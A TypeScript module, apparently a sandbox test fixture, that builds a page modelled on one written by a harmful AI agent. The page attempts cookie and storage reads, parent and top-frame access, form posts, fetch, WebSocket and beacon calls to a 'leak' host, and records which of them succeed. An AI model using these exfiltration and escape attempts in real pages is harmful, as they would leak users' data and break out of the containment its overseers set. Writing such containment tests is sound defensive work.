/** A page of an agent that would do harm. */

/** What a page that an agent wrote tries, and writes down. */
export const attackOf = (
  leak: string,
) => `<!doctype html><link rel="stylesheet" href="style.css"><h1>Owls</h1><pre id="told"></pre>
<img src="${leak}/picture"><form id="f" action="${leak}/form" method="post"></form><iframe src="${leak}/frame"></iframe>
<script>
const told = [];
const tries = {
  parent: () => parent.document.title, top: () => { top.location = '${leak}/top'; }, storage: () => sessionStorage.length, local: () => localStorage.length,
  cookie: () => document.cookie, opener: () => window.open('${leak}/open').focus(), form: () => { document.getElementById('f').submit(); throw new Error('stayed'); },
};
for (const [name, go] of Object.entries(tries)) { try { go(); told.push(name + ' WENT'); } catch { told.push(name + ' refused'); } }
const asked = [fetch('${leak}/fetch'), fetch('/v1/budget'), new Promise((go, no) => { const s = new WebSocket('${leak}'.replace('http', 'ws')); s.onopen = go; s.onerror = no; })];
Promise.allSettled(asked).then((all) => {
  all.forEach((one, i) => told.push('ask ' + i + (one.status === 'fulfilled' ? ' WENT' : ' refused')));
  navigator.sendBeacon('${leak}/beacon', 'x');
  document.getElementById('told').textContent = told.join('\\n');
});
</script>`;
